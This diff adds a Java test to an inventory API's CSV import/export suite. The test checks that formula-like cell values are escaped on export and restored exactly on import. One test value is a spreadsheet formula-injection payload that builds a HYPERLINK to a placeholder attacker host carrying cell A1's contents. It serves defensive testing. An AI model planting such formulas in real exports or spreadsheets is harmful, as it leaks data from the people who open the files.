@@ -253,6 +253,63 @@ class CsvImportExportTest {
     }
 
     @Test
+    void formulaLikeCellsAreEscapedInExportsAndRestoredExactlyOnImport() {
+        long site = Api.site();
+        long maker = Api.manufacturer();
+        long model = Api.model(maker, "1", false);
+        editorWrites("PATCH", "/api/inventory/models/" + model, "{\"end_of_support\":\"2070-01-01\"}")
+                .statusCode(200);
+        long asset = Api.asset(model, "\"site_id\":" + site);
+        String hostile = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1)";
+        editorWrites(
+                        "PATCH",
+                        "/api/inventory/assets/" + asset,
+                        "{\"hostname\":\"" + hostile + "\",\"owner\":\"@SUM(1+1)\",\"notes\":\"'-already quoted\"}")
+                .statusCode(200);
+        Map<String, Object> before = as(VIEWER)
+                .get("/api/inventory/assets/" + asset)
+                .then()
+                .extract()
+                .jsonPath()
+                .getMap("$");
+
+        String csv = given().header("Authorization", VIEWER)
+                .get("/api/inventory/assets/export.csv?site_id=" + site)
+                .then()
+                .statusCode(200)
+                .extract()
+                .asString();
+        assertThat(csv)
+                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"")
+                .contains(",'@SUM(1+1),")
+                .contains("''-already quoted")
+                .doesNotContain(",=HYPERLINK")
+                .doesNotContain(",@SUM");
+        String eos = given().header("Authorization", VIEWER)
+                .accept("text/csv")
+                .get("/api/inventory/reports/eos?as_of=2071-01-01")
+                .then()
+                .statusCode(200)
+                .extract()
+                .asString();
+        assertThat(eos).contains("'=HYPERLINK").doesNotContain(",=HYPERLINK");
+
+        editorWrites("PATCH", "/api/inventory/assets/" + asset, "{\"hostname\":\"safe\",\"owner\":null,\"notes\":null}")
+                .statusCode(200);
+        importCsv("assets", csv, false).statusCode(200).body("updated", equalTo(1));
+        Map<String, Object> after = as(VIEWER)
+                .get("/api/inventory/assets/" + asset)
+                .then()
+                .extract()
+                .jsonPath()
+                .getMap("$");
+        assertThat(after.get("hostname")).isEqualTo("=HYPERLINK(\"http://evil.example/?\"&A1)");
+        assertThat(after.get("owner")).isEqualTo("@SUM(1+1)");
+        assertThat(after.get("notes")).isEqualTo("'-already quoted");
+        assertThat(strip(after)).isEqualTo(strip(before));
+    }
+
+    @Test
     void racksAndModelsExportWithFiltersAndReimport() {
         long site = Api.site();
         Api.rack(site, 42);
